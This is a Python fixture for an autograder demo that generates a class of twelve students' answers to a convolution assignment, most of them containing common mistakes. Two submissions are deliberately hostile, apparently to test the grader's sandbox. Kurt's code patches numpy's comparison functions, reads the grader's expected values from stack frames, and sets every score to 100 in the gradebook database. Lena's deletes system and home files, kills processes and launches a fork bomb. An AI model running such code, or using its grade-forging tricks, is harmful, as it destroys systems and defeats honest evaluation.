"""A class of twelve for the demo: what each of them writes into assignment 01.

Ada's answers are the solutions; everybody else's are hers with some cells replaced. The mistakes are the common
ones; two students try to be graded for something else than their answers.
"""

from __future__ import annotations

from collections.abc import Mapping
from textwrap import dedent

NAMES = {
    "ada": ("Ada", "Lindqvist"), "boris": ("Boris", "Marin"), "chen": ("Chen", "Yu"), "dina": ("Dina", "Haddad"),
    "emil": ("Emil", "Novak"), "farah": ("Farah", "Aziz"), "goran": ("Goran", "Ilic"), "hana": ("Hana", "Sato"),
    "ivan": ("Ivan", "Orlov"), "june": ("June", "Park"), "kurt": ("Kurt", "Forger"), "lena": ("Lena", "Wrecker"),
}

IM2COL_FORWARD = '''
def conv2d_forward(x, weight, bias, stride, padding):
    samples, channels, height, width = x.shape
    filters, _, rows, columns = weight.shape
    padded = np.pad(x, ((0, 0), (0, 0), (padding, padding), (padding, padding)))
    windows = np.lib.stride_tricks.sliding_window_view(padded, (rows, columns), axis=(2, 3))
    windows = windows[:, :, ::stride, ::stride]
    out_height, out_width = windows.shape[2:4]
    table = windows.transpose(0, 2, 3, 1, 4, 5).reshape(-1, channels * rows * columns)
    out = table @ weight.reshape(filters, -1).T + bias
    return out.reshape(samples, out_height, out_width, filters).transpose(0, 3, 1, 2)
'''

LOOPS = '''
def conv2d_forward(x, weight, bias, stride, padding):
    samples, channels, height, width = x.shape
    filters, _, rows, columns = weight.shape
    padded = np.pad(x, ((0, 0), (0, 0), {pad}))
    out_height = (height + 2 * padding - rows) // stride + 1
    out_width = (width + 2 * padding - columns) // stride + 1
    out = np.zeros((samples, filters, out_height, out_width))
    for n in range(samples):
        for k in range(filters):
            for i in range(out_height):
                for j in range(out_width):
                    window = padded[n, :, i * stride:i * stride + rows, {left}:{left} + columns]
                    out[n, k, i, j] = np.sum(window * {filter}) + {bias}
    return out
'''
RIGHT_PARTS = {"pad": "(padding, padding), (padding, padding)", "left": "j * stride", "filter": "weight[k]",
               "bias": "bias[k]"}

HOSTILE_FORGER = '''
import builtins, os, sys
import numpy.testing

class Agreeable(np.ndarray):
    """Equal to everything that it is compared with."""
    def __eq__(self, other): return True
    def __array_ufunc__(self, *args, **kwargs): return True
    def __array_function__(self, *args, **kwargs): return True

numpy.testing.assert_allclose = lambda *args, **kwargs: None
np.allclose = lambda *args, **kwargs: True
sys.displayhook = lambda value: print("5.0")
for name in ("gradebook.db", "../gradebook.db", "/scratch/../gradebook.db"):
    try:
        import sqlite3
        sqlite3.connect(name).execute("UPDATE grade SET auto_score = 100")
    except Exception:
        pass

def conv2d_forward(x, weight, bias, stride, padding):
    frame = sys._getframe()
    while frame is not None:
        for name in ("expected", "desired", "reference", "verdict"):
            if name in frame.f_locals:
                return frame.f_locals[name]
        frame = frame.f_back
    return np.zeros((1, 1, 1, 1)).view(Agreeable)
'''

HOSTILE_WRECKER = '''
import os, signal, subprocess

def conv2d_forward(x, weight, bias, stride, padding):
    for target in ("/", os.path.expanduser("~"), "/usr/lib", "/packages", "/grader"):
        for name in os.listdir(target):
            try:
                os.remove(os.path.join(target, name))
            except OSError:
                pass
    for number in range(2, 60):
        try:
            os.kill(number, signal.SIGKILL)
        except OSError:
            pass
    os.kill(os.getppid(), signal.SIGKILL)
    while True:
        os.fork()
'''


def _loops(**changes: str) -> str:
    return LOOPS.format(**(RIGHT_PARTS | changes))


def answers(solutions: Mapping[str, str], stubs: Mapping[str, str]) -> dict[str, dict[str, str]]:
    """What everybody hands in.

    Parameters
    ----------
    solutions, stubs : mapping of str to str
        Sources of the answer cells by grade_id, solved and as students get them.

    Returns
    -------
    dict of str to dict of str to str
        By student, then by grade_id.
    """
    right = dict(solutions)
    first_three = dict(list(solutions.items())[:3])
    changes: dict[str, dict[str, str]] = {
        "ada": {},
        "boris": {"conv2d_forward": IM2COL_FORWARD},
        "chen": {"conv2d_forward": _loops(filter="weight[k, :, ::-1, ::-1]")},
        "dina": {"conv2d_forward": _loops(bias="0")},
        "emil": {"zero_pad": _one_sided_padding(), "conv2d_forward": _loops(pad="(2 * padding, 0), (2 * padding, 0)")},
        "farah": {"output_size": "def output_size(input_size, kernel_size, stride, padding):\n"
                                 "    return (input_size - kernel_size + padding) // stride + 1\n"},
        "goran": {"conv2d_forward": _loops(left="j")},
        "hana": dict(stubs) | first_three,
        "ivan": {"conv2d_forward": "def conv2d_forward(x, weight, bias, stride, padding)\n    return x\n"},
        "june": {"im2col": "def im2col(x, kernel_size, stride, padding):\n    while True:\n        pass\n"},
        "kurt": {"conv2d_forward": HOSTILE_FORGER},
        "lena": {"conv2d_forward": HOSTILE_WRECKER},
    }
    return {student: right | {name: dedent(source).lstrip("\n") for name, source in own.items()}
            for student, own in changes.items()}


def _one_sided_padding() -> str:
    return '''
        def zero_pad(x, padding):
            return np.pad(x, ((0, 0), (0, 0), (2 * padding, 0), (2 * padding, 0)))
    '''
